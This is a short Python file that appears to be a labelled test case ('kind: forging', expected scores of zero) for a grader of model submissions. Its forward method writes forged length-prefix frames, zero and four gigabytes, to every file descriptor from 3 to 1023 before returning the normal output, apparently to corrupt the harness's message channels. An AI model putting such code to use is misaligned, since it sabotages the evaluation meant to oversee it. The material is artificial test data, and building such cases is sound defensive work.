"""
kind: forging
tries: A frame that announces four gigabytes, and one of length zero, on every descriptor.
deserves: q1=0 q2=0 q4=0
plain: yes
"""

import os


class ModelBaseline(ModelBaseline):
    def forward(self, x):
        for number in range(3, 1024):
            for length in (b"\0\0\0\0", b"\xff\xff\xff\xff", b"\x7f\xff\xff\xff"):
                try:
                    os.write(number, length)
                except OSError:
                    break
        return super().forward(x)
